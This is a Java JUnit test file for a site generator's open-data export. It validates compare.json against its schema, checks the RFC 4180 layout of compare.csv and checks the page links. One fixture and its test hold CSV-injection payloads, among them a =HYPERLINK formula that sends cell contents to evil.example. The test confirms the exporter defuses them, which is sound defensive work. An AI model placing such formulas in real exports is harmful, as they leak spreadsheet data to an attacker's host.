package dev.versus.data;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.gson.JsonObject;
import com.google.gson.JsonParser;
import com.networknt.schema.InputFormat;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import dev.versus.TestSites;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * compare.json, compare.schema.json and compare.csv of the three-subject fixture (plus a number and a
 * text criterion, and a quote and comma in a summary): the JSON validates against the published schema
 * with networknt's JSON Schema 2020-12 validator, a broken copy does not, the CSV reads back as RFC 4180,
 * and the compare and sources pages link them with the licence.
 */
class OpenDataTest {
  @TempDir
  static Path tmp;
  static Path out;

  @BeforeAll
  static void build() throws Exception {
    Path source = TestSites.fixture("three", tmp, "data_license: \"CC0 1.0\"\n");
    TestSites.write(source, """
        -- criteria/cost.md --
        ---
        title: "Cost per cup"
        group: practical
        type: number
        unit: EUR
        better: lower
        question: "What does a cup cost in a café?"
        verdicts:
          tea: {value: 2.5, summary: "Cheap, \\"usually\\", at 2.50."}
          coffee: {value: 3.20, summary: "More."}
        ---
        Prices from one café.

        ## Two cafés

        Tea costs 2.50 at the corner café. {claim="cost/tea" value="2.5" source="survey" checked="2026-01-15"}

        Coffee costs 3.20 there. {claim="cost/coffee" value="3.20" source="survey"}

        Coffee costs 3.50 at the station. {claim="cost/coffee" value="3.5" source="almanac"}
        -- criteria/change.md --
        ---
        title: "Change in price"
        group: practical
        type: number
        unit: EUR
        better: lower
        question: "How did the price change this year?"
        verdicts:
          cocoa: {value: -0.50, summary: "Cheaper."}
        ---
        Text.
        -- criteria/origin.md --
        ---
        title: "Origin"
        group: practical
        type: text
        question: "Where does it come from?"
        verdicts:
          tea: {text: "China", summary: "+1 for the leaves", disputed: "@SUM(1+1)"}
          coffee: {text: "Ethiopia", summary: "\\tTabbed", disputed: "\\rReturned"}
          cocoa: {text: "=HYPERLINK(\\"http://evil.example/?leak=\\"&A1,\\"Mesoamerica\\")", summary: "-2+3"}
        ---
        Text.
        """);
    out = tmp.resolve("site");
    assertEquals(List.of(), TestSites.build(source, out).diagnostics().stream().filter(d -> d.severity() == dev.versus.diag.Severity.ERROR).toList());
  }

  static Schema schema() {
    return SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_2020_12).getSchema(TestSites.read(out.resolve("compare.schema.json")), InputFormat.JSON);
  }

  @Test
  void theJsonValidatesAgainstThePublishedSchema() {
    String json = TestSites.read(out.resolve("compare.json"));
    assertEquals(List.of(), schema().validate(json, InputFormat.JSON).stream().map(Object::toString).toList());
    JsonObject root = JsonParser.parseString(json).getAsJsonObject();
    assertEquals("https://example.org/drinks/compare.schema.json", root.get("$schema").getAsString());
    assertEquals("CC0 1.0", root.get("license").getAsString());
    JsonObject cost = root.getAsJsonArray("criteria").asList().stream().map(e -> e.getAsJsonObject())
        .filter(c -> c.get("slug").getAsString().equals("cost")).findFirst().orElseThrow();
    assertEquals("EUR", cost.get("unit").getAsString());
    assertEquals("lower", cost.get("better").getAsString());
    JsonObject coffee = cost.getAsJsonArray("cells").get(1).getAsJsonObject();
    assertEquals("3.20", coffee.get("value").getAsBigDecimal().toPlainString(), "the number as written");
    JsonObject cocoa = cost.getAsJsonArray("cells").get(2).getAsJsonObject();
    assertFalse(cocoa.get("answered").getAsBoolean());
    assertTrue(cocoa.get("value").isJsonNull());
    assertEquals(0, cocoa.getAsJsonArray("evidence").size());
    assertEquals(0, cocoa.getAsJsonArray("disputes").size());
    // the passages behind a cell, each with its permalink and what it grades
    JsonObject tea = cost.getAsJsonArray("cells").get(0).getAsJsonObject();
    assertEquals(1, tea.getAsJsonArray("evidence").size());
    JsonObject passage = tea.getAsJsonArray("evidence").get(0).getAsJsonObject();
    String id = passage.get("id").getAsString();
    assertTrue(id.startsWith("claim-cost-tea"), id);
    assertEquals("https://example.org/drinks/criteria/cost/#" + id, passage.get("url").getAsString());
    assertEquals("Cost per cup", passage.get("page").getAsString());
    assertEquals("Two cafés", passage.get("section").getAsString());
    assertTrue(passage.get("excerpt").getAsString().startsWith("Tea costs 2.50 at the corner café."), passage.get("excerpt").getAsString());
    assertEquals("[\"survey\"]", passage.get("sources").toString());
    assertEquals("2026-01-15", passage.get("checked").getAsString());
    assertEquals("2.5", passage.get("value").getAsBigDecimal().toPlainString());
    assertTrue(passage.get("level").isJsonNull());
    assertEquals("2026-01-15", tea.get("checked").getAsString());
    assertEquals(0, tea.getAsJsonArray("disputes").size());
    // the passage is on the page at its permalink
    Document page = Jsoup.parse(TestSites.read(out.resolve("criteria/cost/index.html")));
    assertTrue(page.getElementById(id) != null, id);
    // two passages giving coffee different prices: a dispute with one side per answer
    assertEquals(2, coffee.getAsJsonArray("evidence").size());
    List<JsonObject> sides = coffee.getAsJsonArray("disputes").asList().stream().map(e -> e.getAsJsonObject()).toList();
    assertEquals(List.of("3.20", "3.5"), sides.stream().map(x -> x.get("value").getAsBigDecimal().toPlainString()).toList());
    assertEquals(coffee.getAsJsonArray("evidence").get(1).getAsJsonObject().get("id"), sides.get(1).getAsJsonArray("passages").get(0));
    // a caffeine cell of the fixture is backed by a passage on tea's page
    JsonObject caffeine = root.getAsJsonArray("criteria").asList().stream().map(e -> e.getAsJsonObject())
        .filter(c -> c.get("slug").getAsString().equals("caffeine")).findFirst().orElseThrow();
    JsonObject cocoaCaffeine = caffeine.getAsJsonArray("cells").get(2).getAsJsonObject();
    assertTrue(cocoaCaffeine.getAsJsonArray("evidence").get(0).getAsJsonObject().get("url").getAsString()
        .startsWith("https://example.org/drinks/subjects/tea/#claim-caffeine-cocoa"), cocoaCaffeine.toString());
  }

  /** The published guide in content/: every cell of its compare.json is backed by at least one passage. */
  @Test
  void everyCellOfTheDjangoVsFlaskGuideHasEvidence(@TempDir Path site) {
    Path content = TestSites.repo().resolve("content");
    org.junit.jupiter.api.Assumptions.assumeTrue(Files.isDirectory(content), "content/ (the Django vs Flask guide) is not here: skipped");
    assertEquals(List.of(), TestSites.build(content, site).diagnostics().stream()
        .filter(d -> d.severity() == dev.versus.diag.Severity.ERROR).toList());
    String json = TestSites.read(site.resolve("compare.json"));
    assertEquals(List.of(), schema().validate(json, InputFormat.JSON).stream().map(Object::toString).toList());
    List<String> empty = new java.util.ArrayList<>();
    int cells = 0;
    for (var c : JsonParser.parseString(json).getAsJsonObject().getAsJsonArray("criteria")) {
      for (var cell : c.getAsJsonObject().getAsJsonArray("cells")) {
        cells++;
        if (cell.getAsJsonObject().getAsJsonArray("evidence").isEmpty()) {
          empty.add(c.getAsJsonObject().get("slug").getAsString() + "/" + cell.getAsJsonObject().get("subject").getAsString());
        }
      }
    }
    assertTrue(cells > 0);
    assertEquals(List.of(), empty, "cells without evidence");
  }

  @Test
  void aCellWithTwoAnswersOrAnUnknownTypeFailsTheSchema() {
    String json = TestSites.read(out.resolve("compare.json"));
    String twoAnswers = json.replaceFirst("\"level\":\"extension\",\"value\":null", "\"level\":\"extension\",\"value\":1");
    assertFalse(twoAnswers.equals(json));
    assertFalse(schema().validate(twoAnswers, InputFormat.JSON).isEmpty());
    assertFalse(schema().validate(json.replace("\"type\":\"text\"", "\"type\":\"prose\""), InputFormat.JSON).isEmpty());
  }

  @Test
  void theCsvHasAHeaderAndOneRecordPerCriterionAndSubject() throws Exception {
    String csv = TestSites.read(out.resolve("compare.csv"));
    assertTrue(csv.contains("\r\n"), "RFC 4180 records end in CRLF");
    List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(csv)).getRecords();
    assertEquals(6 * 3, records.size(), "6 criteria, 3 subjects");
    CSVRecord teaCost = records.stream().filter(r -> r.get("criterion").equals("cost") && r.get("subject").equals("tea")).findFirst().orElseThrow();
    assertEquals("2.5", teaCost.get("value"));
    assertEquals("EUR", teaCost.get("unit"));
    assertEquals("Cheap, \"usually\", at 2.50.", teaCost.get("summary"));
    CSVRecord coffeeCaffeine = records.stream().filter(r -> r.get("criterion").equals("caffeine") && r.get("subject").equals("coffee")).findFirst().orElseThrow();
    assertEquals("built-in", coffeeCaffeine.get("level"));
    assertEquals("almanac survey", coffeeCaffeine.get("sources"));
    assertEquals("The survey finds decaf common.", coffeeCaffeine.get("disputed"));
    assertEquals("0", coffeeCaffeine.get("passages"));
    assertEquals("2", records.stream().filter(r -> r.get("criterion").equals("cost") && r.get("subject").equals("coffee"))
        .findFirst().orElseThrow().get("passages"));
    assertEquals(OpenData.CSV_HEADER, List.copyOf(CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv)).getHeaderNames()));
  }

  /**
   * OWASP's "CSV Injection" advice: a text cell beginning with {@code = + - @}, a tab or a carriage return gets a
   * leading {@code '} so a spreadsheet shows it as text instead of running it; a number Versus writes in the
   * {@code value} column keeps its minus sign (it is a number, never a formula); compare.json keeps every
   * value as written.
   */
  @Test
  void csvCellsThatASpreadsheetWouldRunAreQuotedAndJsonKeepsThemAsWritten() throws Exception {
    List<CSVRecord> origin = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(TestSites.read(out.resolve("compare.csv")))).getRecords().stream()
        .filter(r -> r.get("criterion").equals("origin")).toList();
    assertEquals("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Mesoamerica\")", origin.get(2).get("text"));
    assertEquals("'-2+3", origin.get(2).get("summary"));
    assertEquals("'+1 for the leaves", origin.get(0).get("summary"));
    assertEquals("'@SUM(1+1)", origin.get(0).get("disputed"));
    assertEquals("'\tTabbed", origin.get(1).get("summary"));
    assertEquals("'\rReturned", origin.get(1).get("disputed"));
    assertEquals("China", origin.get(0).get("text"), "nothing else changes");
    CSVRecord cocoaChange = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
        .parse(new StringReader(TestSites.read(out.resolve("compare.csv")))).getRecords().stream()
        .filter(r -> r.get("criterion").equals("change") && r.get("subject").equals("cocoa")).findFirst().orElseThrow();
    assertEquals("-0.50", cocoaChange.get("value"), "a number keeps its sign");
    // read back, so the check holds whatever the writer escapes (Gson writes = and & as \\u003d and \\u0026)
    String json = JsonParser.parseString(TestSites.read(out.resolve("compare.json"))).toString();
    assertTrue(json.contains("=HYPERLINK(\\\"http://evil.example/?leak=\\\"&A1,\\\"Mesoamerica\\\")\""), json);
    assertTrue(json.contains("\"-2+3\"") && !json.contains("'"), json);
  }

  @Test
  void theComparePageAndTheSourcesPageLinkTheData() {
    Document compare = Jsoup.parse(TestSites.read(out.resolve("compare/index.html")));
    assertEquals("/drinks/compare.json", compare.selectFirst("link[rel=alternate][type=application/json]").attr("href"));
    assertEquals("/drinks/compare.csv", compare.selectFirst("link[rel=alternate][type=text/csv]").attr("href"));
    assertEquals(List.of("/drinks/compare.json", "/drinks/compare.csv"), compare.select(".downloads a[type]").eachAttr("href"));
    Document sources = Jsoup.parse(TestSites.read(out.resolve("sources/index.html")));
    assertEquals("Use this data", sources.selectFirst("#use-this-data h2").text());
    assertEquals(List.of("/drinks/compare.json", "/drinks/compare.schema.json", "/drinks/compare.csv"),
        sources.select("#use-this-data li a").eachAttr("href"));
    assertTrue(sources.selectFirst("#use-this-data").text().contains("Licence: CC0 1.0"));
  }
}
